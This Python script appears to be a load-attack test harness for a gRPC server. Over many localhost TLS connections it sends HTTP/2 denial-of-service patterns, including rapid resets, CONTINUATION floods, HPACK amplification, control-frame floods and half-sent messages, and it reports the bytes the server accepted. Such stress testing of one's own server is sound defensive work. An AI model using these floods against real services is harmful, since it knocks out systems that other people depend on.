"""A process that speaks TLS and HTTP/2 as no library would: endless, half, compressed and unread frames.

Arguments: ATTACK, PORT, HOST (the address it calls from), COUNT of connections, and the files of a
certificate and its key, or nothing. A line is printed once all are connected; the attack ends with standard
input, and the bytes that the hub took are printed.

RFC 9113 (HTTP/2), sections 4.1 and 6 for frames; RFC 7541 (HPACK), section 6, for headers.
"""

from __future__ import annotations

import contextlib
import itertools
import select
import socket
import ssl
import struct
import sys
import threading
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_HEADERS = 1, 4
MEMBER_CALL = "/syncline.v1.SupplierService/SubmitReply"
STRANGER_CALL = "/syncline.v1.EnrolmentService/Enrol"
WINDOW = 65_535


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """Return a header as a literal; both shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call_headers(path: str) -> bytes:
    """Return what begins a call of gRPC."""
    pairs = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(itertools.starmap(header, pairs.items()))


def streams(path: str, more: bytes = b"", then: Callable[[int], bytes] = lambda _: b"") -> Iterator[bytes]:
    """Yield calls without end, each with ``more`` headers and followed by ``then``."""
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(path) + more) + then(stream)


def frames(attack: str, path: str) -> Iterator[bytes]:
    """Yield what an attack sends after the preface."""
    match attack:
        case "silent":
            yield from ()
        case "slow_headers":
            yield frame(HEADERS, END_HEADERS, 1, call_headers(path))[:-1]
        case "calls":
            yield from streams(path)
        case "resets":
            yield from streams(path, then=lambda stream: frame(RST_STREAM, 0, stream, bytes(4)))
        case "continuations":
            yield frame(HEADERS, 0, 1, call_headers(path))
            yield from itertools.repeat(frame(CONTINUATION, 0, 1, header("a", "b" * 120) * 100))
        case "compressed_headers":  # one name and value goes into the table, and is named again by one byte
            yield from streams(path, b"\x40\x01a\x01b" + b"\xbe" * 16_000)
        case "settings" | "unread":
            yield from itertools.repeat(frame(SETTINGS, 0, 0) * 500)
        case "pings":
            yield from itertools.repeat(frame(PING, 0, 0, bytes(8)) * 500)
        case "windows":
            yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)
        case "empty_data":
            yield frame(HEADERS, END_HEADERS, 1, call_headers(path))
            yield from itertools.repeat(frame(DATA, 0, 1) * 500)


class Caller:
    """One connection, and the bytes that the hub took of it."""

    def __init__(self, port: int, host: str, pair: list[str]) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if pair:
            context.load_cert_chain(*pair)
        bare = socket.socket()
        bare.bind((host, 0))
        bare.settimeout(10)
        bare.connect(("127.0.0.1", port))
        self.taken = 0
        self._socket = context.wrap_socket(bare)
        self._socket.setblocking(False)
        self._path = MEMBER_CALL if pair else STRANGER_CALL

    def attack(self, name: str, ended: threading.Event) -> None:
        """Send until the hub hangs up or the attack ends."""
        with contextlib.suppress(OSError):
            self._send(PREFACE + frame(SETTINGS, 0, 0), ended)
            if name == "half_messages":
                self._half_messages(ended)
            for said in frames(name, self._path):
                if ended.is_set() or not self._send(said, ended):
                    break
                if name != "unread":
                    self._receive()
            while not ended.wait(0.1):
                self._receive()
        self._socket.close()

    def _half_messages(self, ended: threading.Event, size: int = 3 << 20, count: int = 32) -> None:
        """Send messages but for their last bytes, as far as the hub's windows allow."""
        windows = dict.fromkeys(range(1, 2 * count, 2), WINDOW)
        left = dict.fromkeys(windows, size - 10)
        whole, received = WINDOW, b""
        for stream in windows:
            self._send(frame(HEADERS, END_HEADERS, stream, call_headers(self._path)), ended)
            self._send(frame(DATA, 0, stream, b"\0" + struct.pack(">I", size)), ended)
        while not ended.wait(0.01):
            received += self._receive()
            while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3]):
                length, kind, flags, stream = (
                    int.from_bytes(received[:3]),
                    *struct.unpack(">BBI", received[3:9]),
                )
                payload, received = received[9 : 9 + length], received[9 + length :]
                if kind == WINDOW_UPDATE and stream == 0:
                    whole += int.from_bytes(payload)
                elif kind == WINDOW_UPDATE and stream in windows:
                    windows[stream] += int.from_bytes(payload)
                elif kind in (SETTINGS, PING) and not flags & ACK:
                    self._send(frame(kind, ACK, 0, payload if kind == PING else b""), ended)
            for stream in windows:
                part = max(0, min(left[stream], windows[stream], whole, 16_384))
                self._send(frame(DATA, 0, stream, bytes(part)) if part else b"", ended)
                left[stream] -= part
                windows[stream] -= part
                whole -= part

    def _send(self, data: bytes, ended: threading.Event) -> bool:
        """Send all of it; False where the attack ended first."""
        while data:
            try:
                sent = self._socket.send(data)
                self.taken += sent
                data = data[sent:]
            except ssl.SSLWantWriteError:
                if ended.is_set():
                    return False
                select.select([], [self._socket], [], 0.1)
            except ssl.SSLWantReadError:
                select.select([self._socket], [], [], 0.1)
        return True

    def _receive(self) -> bytes:
        received = b""
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while data := self._socket.recv(1 << 16):
                received += data
        return received


def main(attack: str, port: int, host: str, count: int, pair: list[str]) -> None:
    """Attack over ``count`` connections until standard input ends."""
    ended = threading.Event()
    callers = [Caller(port, host, pair) for _ in range(count)]
    threads = [threading.Thread(target=caller.attack, args=(attack, ended)) for caller in callers]
    for thread in threads:
        thread.start()
    print("attacking", flush=True)
    sys.stdin.read()
    ended.set()
    for thread in threads:
        thread.join()
    print(sum(caller.taken for caller in callers), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5:])
